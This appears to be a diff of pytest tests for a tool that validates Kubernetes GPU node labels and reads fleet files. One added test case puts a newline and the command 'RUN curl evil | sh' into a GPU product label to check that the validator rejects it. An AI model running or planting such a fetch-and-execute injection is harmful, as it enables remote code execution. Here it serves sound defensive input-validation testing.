@@ -105,6 +105,7 @@ def test_unknown_product_uses_the_compute_labels(matrix: Any) -> None:
      "gpu-t4-1: unknown GPU product 'Mystery-GPU-9000' and no compute capability given"),
     (lambda l: l.update({"nvidia.com/gpu.count": "four"}), "nvidia.com/gpu.count = 'four': not a whole number"),
     (lambda l: l.update({"nvidia.com/cuda.driver.major": "5x5"}), "not a whole number"),
+    (lambda l: l.update({"nvidia.com/gpu.product": "T4\nRUN curl evil | sh"}), "holds a newline"),
     (lambda l: [l.pop(k) for k in list(l) if k.startswith("nvidia.com/") and k != "nvidia.com/gpu.present"],
      "nvidia.com/gpu in status.capacity but no GPU Feature Discovery labels"),
 ])
@@ -197,7 +198,7 @@ def test_reader_takes_regular_files_only(matrix: Any, tmp_path: Path) -> None:
     os.mkfifo(fifo)
     with pytest.raises(BadInput, match="not a regular file"):  # returns at once: no writer is waited for
         fleet.read_fleet(str(fifo), matrix)
-    with pytest.raises(BadInput, match="not a regular file"):
+    with pytest.raises(BadInput, match="is a folder"):
         fleet.read_fleet(str(tmp_path), matrix)
     with pytest.raises(BadInput, match="cannot read it \\(No such file or directory\\)"):
         fleet.read_fleet(str(tmp_path / "missing.json"), matrix)
@@ -212,7 +213,7 @@ def test_reader_refuses_files_over_the_limit(matrix: Any, tmp_path: Path, monkey
     big = tmp_path / "nodes.json"
     big.write_text(K8S.read_text())
     monkeypatch.setattr(fleet, "MAX_BYTES", 1000)
-    with pytest.raises(BadInput, match="over the 0 MiB limit|bytes, over the"):
+    with pytest.raises(BadInput, match="over the 1000-byte limit"):
         fleet.read_fleet(str(big), matrix)
 
 
